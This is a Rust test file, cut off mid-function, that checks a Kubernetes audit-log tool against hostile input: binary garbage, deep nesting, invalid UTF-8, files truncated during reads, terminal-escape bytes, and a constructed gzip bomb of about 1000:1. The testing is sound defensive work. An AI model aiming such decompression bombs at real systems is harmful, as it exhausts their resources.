//! Hostile input ("survive any input"): each case ends with a clear message, counts that add up
//! (`records = events + skipped + malformed`, for the whole scan and per file) and the documented
//! exit code; never a panic, a hang or death by a signal. Terminal output of hostile strings is
//! checked here too, terminal escapes and spreadsheet formulas in every output format of every
//! command (issue 16, points 13 and 14), secrets and credentials in bodies (none reaches any
//! output without --show-secrets), and hostile surroundings: an alert beside inputs that fail
//! (exit 3 outranks 2) and output that cannot be written (a full disk, a closed stdout: exit 2);
//! and two classes of their own: rule state bounded by what it reports (no detect rule keeps
//! more than its findings show, and each says what it left out), and the same answer for any
//! thread count, chunk size and input path.
//!
//! Inputs are built by the tests in temporary folders (the big ones in memory once per run),
//! never committed; the expected counts follow from how each input is built.

use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::path::Path;
use std::process::Child;
use std::sync::OnceLock;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::util::{HANG, Run, finish, kaudit, kaudit_std, run_stdin};

// ---------------------------------------------------------------- helpers

/// A Metadata-level `get configmaps/app` ResponseComplete event; `i` makes its auditID and
/// time unique.
fn event(i: u64) -> String {
    event_with(i, |_| {})
}

/// The same event, changed by `f` before it is written.
fn event_with(i: u64, f: impl FnOnce(&mut Value)) -> String {
    let sec = i / 1_000_000;
    let ts = format!(
        "2026-11-21T{:02}:{:02}:{:02}.{:06}Z",
        15 + sec / 3600,
        (sec / 60) % 60,
        sec % 60,
        i % 1_000_000
    );
    let mut v = json!({
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "Metadata",
        "auditID": format!("00000000-0000-4000-8000-{i:012}"),
        "stage": "ResponseComplete",
        "requestURI": "/api/v1/namespaces/build/configmaps/app",
        "verb": "get",
        "user": {"username": "alice", "groups": ["system:authenticated"]},
        "sourceIPs": ["10.0.0.1"],
        "userAgent": "kubectl/v1.30.0",
        "objectRef": {"resource": "configmaps", "namespace": "build", "name": "app", "apiVersion": "v1"},
        "responseStatus": {"metadata": {}, "code": 200},
        "requestReceivedTimestamp": ts,
        "stageTimestamp": ts,
    });
    f(&mut v);
    v.to_string()
}

/// An event with `raw` (JSON text) spliced in as its last field.
fn event_plus(i: u64, raw: &str) -> String {
    let e = event(i);
    format!("{},{raw}}}", &e[..e.len() - 1])
}

/// Events `from..to`, one per line.
fn events(range: std::ops::Range<u64>) -> String {
    range.map(|i| event(i) + "\n").collect()
}

fn tmp() -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix("kaudit-hostile-")
        .tempdir()
        .unwrap()
}

/// Write `bytes` to `dir/name`; its path as a string.
fn put(dir: &Path, name: &str, bytes: impl AsRef<[u8]>) -> String {
    let p = dir.join(name);
    fs::write(&p, bytes).unwrap();
    p.to_str().unwrap().to_owned()
}

/// Run kaudit (not cached: these inputs change between runs).
fn go(args: &[&str]) -> Run {
    finish(kaudit().args(args).output().expect("kaudit runs"))
}

/// The JSON document a `summary -o json` run printed.
#[track_caller]
fn doc(r: &Run) -> Value {
    serde_json::from_slice(&r.stdout).unwrap_or_else(|e| {
        panic!(
            "summary printed no JSON ({e})\n--- stderr ---\n{}",
            r.stderr
        )
    })
}

fn n(d: &Value, key: &str) -> u64 {
    d[key]
        .as_u64()
        .unwrap_or_else(|| panic!("no number {key} in {d}"))
}

/// Every line is an event, skipped or malformed, and the files' lines make the total.
#[track_caller]
fn adds_up(d: &Value) {
    assert_eq!(
        n(d, "records"),
        n(d, "events") + n(d, "skipped") + n(d, "malformed"),
        "records = events + skipped + malformed: {d}"
    );
    let records: u64 = d["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["records"].as_u64().unwrap())
        .sum();
    assert_eq!(records, n(d, "records"), "per-file records add up");
    let files: u64 = d["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["lines"].as_u64().unwrap())
        .sum();
    assert_eq!(files, n(d, "lines"), "per-file lines add up");
    let events: u64 = d["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["events"].as_u64().unwrap())
        .sum();
    assert_eq!(events, n(d, "events"), "per-file events add up");
    if d["filtered"] == Value::Bool(false) {
        // every event is a stage of a request counted, or left out (a repeat, or late)
        let stages: u64 = d["stages"]
            .as_object()
            .unwrap()
            .values()
            .map(|v| v.as_u64().unwrap())
            .sum();
        assert_eq!(
            stages + n(d, "lateEvents"),
            n(d, "events"),
            "events = stages of requests + left out: {d}"
        );
    }
}

/// Wait for a spawned kaudit, at most `limit` (then kill it, by its id, and fail: a hang). It
/// must exit with a code: death by a signal fails the test.
#[track_caller]
fn wait_output(child: Child, limit: Duration) -> Run {
    let pid = child.id();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(child.wait_with_output());
    });
    let out = match rx.recv_timeout(limit) {
        Ok(out) => out.expect("wait for kaudit"),
        Err(_) => {
            // SAFETY: signalling the child this test spawned and has not reaped.
            #[cfg(unix)]
            unsafe {
                libc::kill(pid as libc::pid_t, libc::SIGKILL)
            };
            panic!("kaudit did not finish within {limit:?} (hang)");
        }
    };
    #[cfg(unix)]
    {
        use std::os::unix::process::ExitStatusExt;
        assert!(
            out.status.code().is_some(),
            "kaudit died of signal {:?}\n--- stderr ---\n{}",
            out.status.signal(),
            String::from_utf8_lossy(&out.stderr)
        );
    }
    finish(out)
}

/// No byte that a terminal would obey.
#[track_caller]
fn harmless(what: &str, text: &str) {
    for bad in ["\x1b", "\x07", "\r", "\u{202e}", "\u{9b}"] {
        assert!(
            !text.contains(bad),
            "{what}: {bad:?} reached the output:\n{text}"
        );
    }
}

fn gz(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

// ---------------------------------------------------------------- small files

#[test]
fn an_empty_file_is_no_input_not_no_match() {
    let dir = tmp();
    let f = put(dir.path(), "audit.log", b"");
    let said = "kaudit: error: no audit event in the input: it is empty\n";
    // summary still shows the accounting
    let r = go(&["summary", "-o", "json", &f]).expect_code(2);
    assert_eq!(r.stderr, said);
    let d = doc(&r);
    adds_up(&d);
    assert_eq!(n(&d, "lines"), 0);
    assert_eq!(d["files"][0]["error"], Value::Null);
    let r = go(&["events", &f]).expect_code(2);
    assert!(r.stdout.is_empty() && r.stderr == said, "{r:?}");
    // detect: no "No findings" all-clear, and a cron job's --fail-on sees an error
    let r = go(&["detect", "--fail-on", "high", &f]).expect_code(2);
    assert!(r.stdout.is_empty() && r.stderr == said, "{r:?}");
    let r = go(&["detect", "-o", "json", &f]).expect_code(2);
    assert_eq!(
        doc(&r)["errors"],
        serde_json::json!(["no audit event in the input: it is empty"])
    );
    let g = put(
        dir.path(),
        "package.json",
        b"{\"name\": \"x\", \"version\": \"1.0.0\"}\n",
    );
    let r = go(&["detect", &g]).expect_code(2);
    assert!(r.stdout.is_empty(), "{r:?}");
    assert!(
        r.stderr
            .ends_with("kaudit: error: no audit event in the input: 1 record(s), 1 malformed\n"),
        "{}",
        r.stderr
    );
}

#[test]
fn a_file_of_nul_bytes_is_one_malformed_line() {
    let dir = tmp();
    let f = put(dir.path(), "nul.log", vec![0u8; 1 << 20]);
    let r = go(&["summary", "-o", "json", &f]).expect_code(2);
    assert!(
        r.stderr
            .starts_with(&format!("kaudit: warning: {f}:1: malformed line: ")),
        "{}",
        r.stderr
    );
    assert_eq!(r.stderr.lines().count(), 2, "{}", r.stderr);
    assert!(
        r.stderr
            .ends_with("kaudit: error: no audit event in the input: 1 record(s), 1 malformed\n")
    );
    harmless("stderr", &r.stderr);
    let d = doc(&r);
    adds_up(&d);
    assert_eq!((n(&d, "lines"), n(&d, "malformed")), (1, 1));
    assert_eq!(d["files"][0]["bytes"], 1 << 20);
    go(&["summary", "--strict", &f]).expect_code(2);
}

#[test]
fn binary_garbage_is_malformed_lines_not_a_crash() {
    let dir = tmp();
    // xorshift: the same 2 MiB every run, with newlines, NULs, ESC and invalid UTF-8 in it
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let data: Vec<u8> = (0..2 << 20)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect();
    let newlines = data.iter().filter(|&&b| b == b'\n').count() as u64;
    let lines = newlines + u64::from(data.last() != Some(&b'\n'));
    let f = put(dir.path(), "garbage.log", &data);
    let r = go(&["summary", "-o", "json", &f]).expect_code(2);
    let d = doc(&r);
    adds_up(&d);
    assert_eq!(n(&d, "lines"), lines);
    assert_eq!(n(&d, "events"), 0);
    assert!(n(&d, "malformed") > lines / 2, "{d}");
    // five in full, then a count
    assert_eq!(
        r.stderr.matches(": malformed line: ").count(),
        5,
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains(&format!(
            "more malformed lines not shown ({} malformed in all)",
            n(&d, "malformed")
        )),
        "{}",
        r.stderr
    );
    harmless("stderr", &r.stderr);
    // the same from stdin
    let r = run_stdin(&["summary", "-o", "json"], data).expect_code(2);
    assert_eq!(n(&doc(&r), "lines"), lines);
}

/// A single 64 MiB line (a RequestResponse event with a big body), read from a mapped file and
/// from a pipe. Peak memory for this is in BENCHMARKS.md ("Memory").
#[test]
fn a_64_mib_line_is_one_event() {
    let dir = tmp();
    let blob = "a".repeat(64 << 20);
    let line = event_plus(
        1,
        &format!(r#""requestObject":{{"kind":"ConfigMap","data":{{"blob":"{blob}"}}}}"#),
    ) + "\n";
    assert!(line.len() > 64 << 20);
    let f = put(dir.path(), "big.log", &line);
    for r in [
        go(&["summary", "-o", "json", &f]),
        run_stdin(&["summary", "-o", "json"], line.into_bytes()),
    ] {
        let r = r.expect_code(0);
        assert_eq!(r.stderr, "");
        let d = doc(&r);
        adds_up(&d);
        assert_eq!(
            (n(&d, "lines"), n(&d, "events"), n(&d, "requests")),
            (1, 1, 1)
        );
    }
}

#[test]
fn deep_nesting_is_skipped_or_reported_never_a_stack_overflow() {
    let dir = tmp();
    let depth = 100_000;
    let arrays = format!("{}{}", "[".repeat(depth), "]".repeat(depth));
    let objects = format!("{}1{}", r#"{"a":"#.repeat(depth), "}".repeat(depth));
    let text = [
        // bodies are skipped, not built: these are events
        event_plus(1, &format!(r#""requestObject":{arrays}"#)),
        event_plus(2, &format!(r#""responseObject":{objects}"#)),
        // where kaudit reads a string: malformed
        format!(r#"{{"auditID":{arrays},"stage":"ResponseComplete"}}"#),
        format!(r#"{{"auditID":"x","stage":"ResponseComplete","verb":{objects}}}"#),
    ]
    .join("\n")
        + "\n";
    let f = put(dir.path(), "deep.log", &text);
    let r = go(&["summary", "-o", "json", &f]).expect_code(0);
    let d = doc(&r);
    adds_up(&d);
    assert_eq!(
        (n(&d, "lines"), n(&d, "events"), n(&d, "malformed")),
        (4, 2, 2)
    );
    assert_eq!(r.stderr.matches(": malformed line: ").count(), 2);

    // `history` parses bodies: too deep is a note on the row, not a crash
    let update = |i: u64, body: &str| {
        let e = event_with(i, |v| {
            v["verb"] = json!("update");
            v["level"] = json!("RequestResponse");
        });
        format!("{},\"requestObject\":{body}}}", &e[..e.len() - 1])
    };
    let deep_body = format!(
        r#"{{"kind":"ConfigMap","apiVersion":"v1","metadata":{{"name":"app","namespace":"build"}},"data":{objects}}}"#
    );
    let f = put(dir.path(), "deep-history.log", update(3, &deep_body) + "\n");
    let r = go(&["history", "-n", "build", "cm/app", &f]).expect_code(0);
    assert!(
        r.stdout_str().contains("too deeply nested"),
        "{}",
        r.stdout_str()
    );
}

#[test]
fn a_million_tiny_lines_are_all_counted() {
    let dir = tmp();
    let (mut text, mut blank, mut malformed, mut evs) = (String::new(), 0u64, 0u64, 0u64);
    for i in 0..1_000_000u64 {
        if i % 1000 == 0 {
            text.push_str(&event(i));
            evs += 1;
        } else {
            match i % 3 {
                0 => blank += 1,
                1 => {
                    text.push_str("{}");
                    malformed += 1;
                }
                _ => {
                    text.push('1');
                    malformed += 1;
                }
            }
        }
        text.push('\n');
    }
    let f = put(dir.path(), "tiny.log", &text);
    let r = go(&["summary", "-o", "json", &f]).expect_code(0);
    let d = doc(&r);
    adds_up(&d);
    assert_eq!(n(&d, "lines"), 1_000_000);
    assert_eq!(n(&d, "events"), evs);
    assert_eq!(n(&d, "requests"), evs);
    assert_eq!(n(&d, "skippedBlank"), blank);
    assert_eq!(n(&d, "malformed"), malformed);
    assert_eq!(r.stderr.matches(": malformed line: ").count(), 5);
    assert!(
        r.stderr.ends_with(&format!(
            "kaudit: warning: {} more malformed lines not shown ({malformed} malformed in all)\n",
            malformed - 5
        )),
        "{}",
        r.stderr
    );
}

#[test]
fn invalid_utf8_inside_strings_is_malformed_and_the_rest_is_read() {
    let dir = tmp();
    let bad = event(2).replace("kubectl/v1.30.0", "kubectl/\u{1}");
    let at = bad.find('\u{1}').unwrap();
    let mut bad = bad.into_bytes();
    bad[at] = 0xff; // a byte that is never UTF-8, inside the userAgent string
    let mut text = (event(1) + "\n").into_bytes();
    text.extend_from_slice(&bad);
    text.push(b'\n');
    // a lone surrogate written as a JSON escape is not text either
    text.extend_from_slice(
        event(3)
            .replace("kubectl/v1.30.0", r"kubectl\ud800")
            .as_bytes(),
    );
    text.push(b'\n');
    text.extend_from_slice((event(4) + "\n").as_bytes());
    let f = put(dir.path(), "utf8.log", &text);
    let r = go(&["summary", "-o", "json", &f]).expect_code(0);
    let d = doc(&r);
    adds_up(&d);
    assert_eq!(
        (n(&d, "lines"), n(&d, "events"), n(&d, "malformed")),
        (4, 2, 2)
    );
    assert!(
        r.stderr.contains(&format!(
            "{f}:2: malformed line: invalid UTF-8 at byte {}",
            at + 1
        )),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains(&format!("{f}:3: malformed line: ")));
}

/// A field kaudit reads that appears twice makes the line malformed: neither value wins
/// silently. Unknown fields may repeat (they are not read).
#[test]
fn duplicate_keys_make_a_line_malformed_unless_kaudit_ignores_the_key() {
    let dir = tmp();
    let text = [
        event_plus(1, r#""verb":"delete""#),
        event_plus(2, r#""x-unknown":1,"x-unknown":2"#),
        event(3).replace(
            r#""username":"alice""#,
            r#""username":"alice","username":"root""#,
        ),
    ]
    .join("\n")
        + "\n";
    let f = put(dir.path(), "dup.log", &text);
    let r = go(&["summary", "-o", "json", &f]).expect_code(0);
    let d = doc(&r);
    adds_up(&d);
    assert_eq!((n(&d, "events"), n(&d, "malformed")), (1, 2));
    assert!(
        r.stderr.contains(&format!(
            "{f}:1: malformed line: not an audit Event: duplicate field `verb`"
        )),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("duplicate field `username`"),
        "{}",
        r.stderr
    );
    let r = go(&["events", "-o", "ndjson", &f]).expect_code(0);
    let rows = crate::util::ndjson(&r.stdout);
    assert_eq!(rows.len(), 1);
    assert_eq!(
        (rows[0]["verb"].as_str(), rows[0]["user"].as_str()),
        (Some("get"), Some("alice"))
    );
}

#[test]
fn numbers_where_strings_belong_are_malformed() {
    let dir = tmp();
    let text = [
        event(1).replace(r#""verb":"get""#, r#""verb":42"#),
        event(2).replace(
            r#""auditID":"00000000-0000-4000-8000-000000000002""#,
            r#""auditID":12345"#,
        ),
        event(3).replace(r#""userAgent":"kubectl/v1.30.0""#, r#""userAgent":3.5"#),
        // and a string where a number belongs
        event(4).replace(r#""code":200"#, r#""code":"200""#),
        event(5),
    ]
    .join("\n")
        + "\n";
    let f = put(dir.path(), "types.log", &text);
    let r = go(&["summary", "-o", "json", &f]).expect_code(0);
    let d = doc(&r);
    adds_up(&d);
    assert_eq!((n(&d, "events"), n(&d, "malformed")), (1, 4));
    for (line, what) in [
        (1, "integer `42`"),
        (2, "integer `12345`"),
        (3, "floating point `3.5`"),
        (4, "string \"200\""),
    ] {
        assert!(
            r.stderr.contains(&format!(
                "{f}:{line}: malformed line: not an audit Event: invalid type: {what}"
            )),
            "line {line}: {}",
            r.stderr
        );
    }
}

// ---------------------------------------------------------------- gzip bomb

/// 3 events, then a line of 80 MiB of NULs (80 gzip members of 1 MiB, about 1 KB each), then
/// one more event: about 1000:1.
fn bomb() -> &'static [u8] {
    static BOMB: OnceLock<Vec<u8>> = OnceLock::new();
    BOMB.get_or_init(|| {
        let mut b = gz(events(0..3).as_bytes());
        let zeros = gz(&vec![0u8; 1 << 20]);
        for _ in 0..80 {
            b.extend_from_slice(&zeros);
        }
        b.extend_from_slice(&gz(format!("\n{}\n", event(3)).as_bytes()));
        b
    })
}

#[test]
fn a_gzip_bomb_stops_with_an_error_naming_the_file() {
    let dir = tmp();
    let f = put(dir.path(), "audit.log.1.gz", bomb());
    let r = go(&["summary", "-o", "json", &f]).expect_code(2);
    let d = doc(&r);
    adds_up(&d);
    // the lines before the bomb count; nothing after it is read
    assert_eq!((n(&d, "lines"), n(&d, "events")), (3, 3));
    let want = format!("kaudit: error: {f}: gzip data expands more than 100x (");
    assert!(r.stderr.starts_with(&want), "{}", r.stderr);
    assert!(
        r.stderr.contains("a gzip bomb? decompression stopped (--max-gzip-ratio N raises the limit, 0 removes it); lines after 3 not read"),
        "{}",
        r.stderr
    );
    assert!(
        d["files"][0]["error"]
            .as_str()
            .unwrap()
            .contains("gzip bomb")
    );
    // on stdin too
    let r = run_stdin(&["summary", "-o", "json"], bomb().to_vec()).expect_code(2);
    assert!(
        r.stderr
            .contains("kaudit: error: <stdin>: gzip data expands more than 100x")
    );
    assert_eq!(n(&doc(&r), "events"), 3);
    // with the limit removed, everything is read: the NUL line is malformed, the event after
    // it counts
    let r = go(&["summary", "-o", "json", "--max-gzip-ratio", "0", &f]).expect_code(0);
    let d = doc(&r);
    adds_up(&d);
    assert_eq!(
        (n(&d, "lines"), n(&d, "events"), n(&d, "malformed")),
        (5, 4, 1)
    );
}

// ---------------------------------------------------------------- files that change

#[test]
fn a_file_truncated_mid_line_skips_its_unfinished_last_line() {
    let dir = tmp();
    let third = event(2);
    let text = events(0..2) + &third[..third.len() / 2];
    let f = put(dir.path(), "cut.log", &text);
    for r in [
        go(&["summary", "-o", "json", &f]),
        go(&["summary", "-o", "json", "--no-mmap", &f]),
    ] {
        let r = r.expect_code(0);
        assert_eq!(
            r.stderr,
            format!(
                "kaudit: note: {f}:3: skipped unfinished last line (file still being written)\n"
            )
        );
        let d = doc(&r);
        adds_up(&d);
        assert_eq!((n(&d, "events"), n(&d, "skippedUnterminated")), (2, 1));
    }
}

/// A writer appends lines (each in two writes) while kaudit reads: the lines present when
/// read are used, and a half-written last line is the documented skip, never malformed.
#[test]
fn a_file_being_appended_to_is_read_up_to_what_is_there() {
    let dir = tmp();
    let base = 8000;
    let f = put(dir.path(), "audit.log", events(0..base));
    let stop = AtomicBool::new(false);
    /// Stops the writer however the rounds end (a failed assertion included).
    struct Stop<'a>(&'a AtomicBool);
    impl Drop for Stop<'_> {
        fn drop(&mut self) {
            self.0.store(true, Ordering::Relaxed);
        }
    }
    std::thread::scope(|s| {
        s.spawn(|| {
            let mut w = OpenOptions::new().append(true).open(&f).unwrap();
            let mut i = base;
            while !stop.load(Ordering::Relaxed) {
                let line = event(i) + "\n";
                let (a, b) = line.as_bytes().split_at(line.len() / 2);
                w.write_all(a).unwrap();
                std::thread::sleep(Duration::from_micros(300));
                w.write_all(b).unwrap();
                i += 1;
            }
        });
        let _stop = Stop(&stop);
        for round in 0..6 {
            let mut args = vec!["summary", "-o", "json", &f];
            if round % 2 == 1 {
                args.push("--no-mmap");
            }
            let r = go(&args).expect_code(0);
            let d = doc(&r);
            adds_up(&d);
            assert_eq!(n(&d, "malformed"), 0, "{}", r.stderr);
            assert!(n(&d, "events") >= base);
            match n(&d, "skippedUnterminated") {
                0 => assert_eq!(r.stderr, ""),
                1 => assert!(
                    r.stderr
                        .ends_with(": skipped unfinished last line (file still being written)\n"),
                    "{}",
                    r.stderr
                ),
                k => panic!("{k} unfinished lines"),
            }
        }
    });
}

/// About 7 MB of events: the same line with its number changed (building each with serde_json
/// is slow in a debug build).
fn big_log() -> (Vec<u8>, u64) {
    let n = 12_000;
    let template = event(0);
    let id = "00000000-0000-4000-8000-000000000000";
    let mut out = Vec::with_capacity(template.len() * n as usize + n as usize);
    for i in 0..n {
        out.extend_from_slice(
            template
                .replace(id, &format!("00000000-0000-4000-8000-{i:012}"))
                .as_bytes(),
        );
        out.push(b'\n');
    }
    (out, n)
}

/// How many bytes a process has read with read(2) and pread(2) (`rchar` of /proc/PID/io), or
/// None once it has exited.
#[cfg(target_os = "linux")]
fn bytes_read(pid: u32) -> Option<u64> {
    let io = fs::read_to_string(format!("/proc/{pid}/io")).ok()?;
    io.lines()
        .find_map(|l| l.strip_prefix("rchar: "))
        .and_then(|n| n.trim().parse().ok())
}

/// Has this child exited (a zombie, not yet waited for), or is it gone?
#[cfg(target_os = "linux")]
fn exited(pid: u32) -> bool {
    fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|s| Some(s.rsplit_once(") ")?.1.starts_with('Z')))
        .unwrap_or(true)
}

/// Let the child run until it has read `want` bytes (or [`HANG`] passes: a guard only), then
/// stop it (SIGSTOP; the caller sends SIGCONT).
#[cfg(target_os = "linux")]
fn stop_after_reading(child: &Child, want: u64) {
    let give_up = Instant::now() + HANG;
    while bytes_read(child.id()).is_some_and(|n| n < want) && Instant::now() < give_up {
        std::thread::sleep(Duration::from_micros(200));
    }
    signal(child, libc::SIGSTOP);
}

/// Cut the file at `f` to `len` bytes in place, as copytruncate does (and, with `append`, let
/// the writer add ten events after the cut), then let the stopped child go on and wait for it.
#[cfg(target_os = "linux")]
fn cut_and_resume(child: Child, f: &std::path::Path, len: u64, append: bool) -> Run {
    OpenOptions::new()
        .write(true)
        .open(f)
        .unwrap()
        .set_len(len)
        .unwrap();
    if append {
        let mut a = OpenOptions::new().append(true).open(f).unwrap();
        a.write_all(events(1_000_000..1_000_010).as_bytes())
            .unwrap();
    }
    signal(&child, libc::SIGCONT);
    wait_output(child, HANG)
}

/// Send `sig` to the child this test spawned (and has not reaped).
#[cfg(unix)]
fn signal(child: &Child, sig: libc::c_int) {
    // SAFETY: kill(2) on the id of our own unreaped child.
    unsafe { libc::kill(child.id() as libc::pid_t, sig) };
}

/// copytruncate truncates the live file after copying it, possibly while kaudit reads it. A
/// mapped read past the new end raises SIGBUS; kaudit must report the cut (exit 2, counts of
/// what was read before it), never die of the signal. Truncation lands at different points of
/// the read, to the empty file and to half, with the writer appending after the cut, mapped and
/// with --no-mmap. The points are fractions of the file kaudit has read (its read count, with
/// kaudit stopped by SIGSTOP while the file is cut), not of a measured time: a busy or an idle
/// machine cuts at the same places.
#[test]
fn a_file_truncated_while_mapped_is_reported_not_a_sigbus() {
    let dir = tmp();
    let (data, total) = &big_log();
    let f = dir.path().join("audit.log");
    let path = f.to_str().unwrap();
    fs::write(&f, data).unwrap();
    // small chunks: several batches, so the cut can land before, in and between them
    let full = go(&["summary", "-o", "json", "--chunk-size", "100000", path]).expect_code(0);
    assert_eq!(n(&doc(&full), "lines"), *total);

    let mut cut_seen = 0;
    // clean reads of the first N lines, by N
    let mut clean = std::collections::HashMap::new();
    let rounds: &[(u32, u64, bool, bool)] = &[
        // (fraction of a full read in %, size to cut to, append after the cut, --no-mmap)
        (20, 0, false, false),
        (40, 0, true, false),
        (60, data.len() as u64 / 2, false, false),
        (30, 0, false, true),
        (80, 0, false, false),
        (10, 0, false, false),
        (50, 0, true, false),
    ];
    let mut stopped_reading = Vec::new();
    for &(pct, cut_to, append, no_mmap) in rounds {
        fs::write(&f, data).unwrap();
        let mut args = vec!["summary", "-o", "json", "--chunk-size", "100000", path];
        if no_mmap {
            args.push("--no-mmap");
        }
        let child = kaudit_std(&args).spawn().unwrap();
        // once kaudit has read pct% of the file, stop it, cut the file, and let it go on
        let want = data.len() as u64 * u64::from(pct) / 100;
        // (a debug kaudit reads this file in about a second)
        stop_after_reading(&child, want);
        stopped_reading.push(bytes_read(child.id()));
        let r = cut_and_resume(child, &f, cut_to, append);
        let d = doc(&r);
        adds_up(&d);
        match r.code {
            // read whole before the cut, or opened after it (then the file is what is left)
            0 | 1 => assert!(!r.stderr.contains("error"), "round {pct}%: {}", r.stderr),
            2 => {
                cut_seen += 1;
                let want = format!("kaudit: error: {path}: shrank from {} to ", data.len());
                assert!(r.stderr.starts_with(&want), "{}", r.stderr);
                let tail = format!(
                    " bytes while being read (copytruncate rotation?); lines after {} not read\n",
                    n(&d, "lines")
                );
                assert!(r.stderr.ends_with(&tail), "{}", r.stderr);
                assert!(d["files"][0]["error"].as_str().unwrap().contains("shrank"));
                assert!(n(&d, "lines") < *total);
                // what was read before the cut is what a clean read of those lines gives:
                // nothing read after the cut (zeros, new lines) went into any request
                let c = clean.entry(n(&d, "lines")).or_insert_with(|| {
                    let kept = data
                        .split_inclusive(|&b| b == b'\n')
                        .take(n(&d, "lines") as usize)
                        .flatten()
                        .copied()
                        .collect::<Vec<u8>>();
                    let p = dir.path().join("clean.log");
                    fs::write(&p, kept).unwrap();
                    doc(&go(&["summary", "-o", "json", p.to_str().unwrap()]))
                });
                for key in [
                    "events",
                    "requests",
                    "incomplete",
                    "lateEvents",
                    "topUsers",
                    "codes",
                ] {
                    assert_eq!(
                        d[key],
                        c[key],
                        "{key} after a cut at line {}",
                        n(&d, "lines")
                    );
                }
            }
            c => panic!("exit {c}: {}", r.stderr),
        }
    }
    assert!(
        cut_seen > 0,
        "no round truncated the file during the read (bytes read when stopped: {stopped_reading:?} of {})",
        data.len()
    );
}

/// A selective query reads a mapped file in place (the prefilter looks at the lines in the map,
/// and only the lines it admits are copied to be parsed), so a cut reaches it through the map
/// itself: the pages past the new end read as zeros (SIGBUS, caught), not as an error of a
/// read. kaudit must report the cut as it does for a full scan (exit 2, the same message, never
/// a signal), and print only what the lines before the cut give. The points are fractions of
/// the bytes a whole run reads with `pread` (the chunks' ends: a chunk read in place is not
/// read with it), measured first.
#[cfg(target_os = "linux")]
#[test]
fn a_file_truncated_while_a_selective_query_reads_it_in_place() {
    cut_while_events_are_printed(true);
}

/// `events` over every line of a file cut short while it is read: the chunks are read with
/// `pread`, and the workers read each batch while the one before is merged and printed. What
/// it prints is what the lines before the cut give: a batch read past the cut, beside the merge
/// that found it, prints nothing.
#[cfg(target_os = "linux")]
#[test]
fn a_file_truncated_while_every_request_is_printed() {
    cut_while_events_are_printed(false);
}

/// The rounds of the two tests above: `events -o ndjson` of a file cut at several points of the
/// read, `-v delete` (a tenth of the lines, read in place) when `selective`.
#[cfg(target_os = "linux")]
fn cut_while_events_are_printed(selective: bool) {
    let dir = tmp();
    let total = 12_000;
    let data: Vec<u8> = (0..total)
        .flat_map(|i| {
            let line = event_with(i, |v| {
                if i % 10 == 0 {
                    v["verb"] = json!("delete");
                }
            });
            (line + "\n").into_bytes()
        })
        .collect();
    let f = dir.path().join("audit.log");
    let path = f.to_str().unwrap();
    let mut args = vec!["events", "-o", "ndjson", "--chunk-size", "100000", path];
    if selective {
        args.extend(["-v", "delete"]);
    }
    // stdout to a file: a pipe that fills up would stop kaudit while it is watched
    let out = dir.path().join("out.ndjson");
    let spawn = || {
        kaudit_std(&args)
            .stdout(File::create(&out).unwrap())
            .spawn()
            .unwrap()
    };
    fs::write(&f, &data).unwrap();
    // the bytes a whole run reads: far fewer than the file's (its chunks are read in place)
    let child = spawn();
    let give_up = Instant::now() + HANG;
    while !exited(child.id()) && Instant::now() < give_up {
        std::thread::sleep(Duration::from_millis(1));
    }
    // (an exited process not yet waited for still tells what it read)
    let whole = bytes_read(child.id()).unwrap_or(0);
    wait_output(child, HANG).expect_code(0);
    let full = fs::read(&out).unwrap();
    let rows = if selective { total / 10 } else { total };
    assert_eq!(full.split(|&b| b == b'\n').count() as u64, rows + 1);
    if selective {
        assert!(
            whole > 0 && whole < data.len() as u64 / 4,
            "{whole} bytes read of {}: not read in place",
            data.len()
        );
    }

    let mut cut_seen = 0;
    // (fraction of a whole run's reads in %, size to cut to, append after the cut)
    let rounds: &[(u64, u64, bool)] = &[
        (20, 0, false),
        (40, 0, true),
        (60, data.len() as u64 / 2, false),
        (80, 0, false),
        (50, data.len() as u64 / 3, true),
    ];
    for &(pct, cut_to, append) in rounds {
        fs::write(&f, &data).unwrap();
        let child = spawn();
        let want = whole * pct / 100;
        stop_after_reading(&child, want);
        let r = cut_and_resume(child, &f, cut_to, append);
        let printed = fs::read(&out).unwrap();
        match r.code {
            // read whole before the cut
            0 => assert_eq!(printed, full, "round {pct}%: {}", r.stderr),
            2 => {
                cut_seen += 1;
                let want = format!("kaudit: error: {path}: shrank from {} to ", data.len());
                assert!(r.stderr.starts_with(&want), "{}", r.stderr);
                let lines: usize = r
                    .stderr
                    .strip_suffix(" not read\n")
                    .and_then(|s| s.rsplit_once("; lines after "))
                    .and_then(|(_, n)| n.parse().ok())
                    .unwrap_or_else(|| panic!("no line count: {}", r.stderr));
                assert!(r.stderr.ends_with(&format!(
                    " bytes while being read (copytruncate rotation?); lines after {lines} not read\n"
                )));
                assert!(lines < total as usize, "{}", r.stderr);
                // what it printed is what the lines before the cut give, read whole
                let kept: Vec<u8> = data
                    .split_inclusive(|&b| b == b'\n')
                    .take(lines)
                    .flatten()
                    .copied()
                    .collect();
                fs::write(&f, kept).unwrap();
                let clean = go(&args);
                assert!(clean.code == 0 || clean.code == 1, "{}", clean.stderr);
                assert_eq!(
                    printed, clean.stdout,
                    "round {pct}%: output after a cut at line {lines}"
                );
            }
            c => panic!("exit {c}: {}", r.stderr),
        }
    }
    assert!(
        cut_seen > 0,
        "no round truncated the file during the read (reads: {whole} of {})",
        data.len()
    );
}

// ---------------------------------------------------------------- special files

/// Open a FIFO for writing once a reader has it open (kaudit may fail before it does: then
/// this fails instead of blocking forever).
#[cfg(unix)]
fn fifo_writer(path: &Path) -> File {
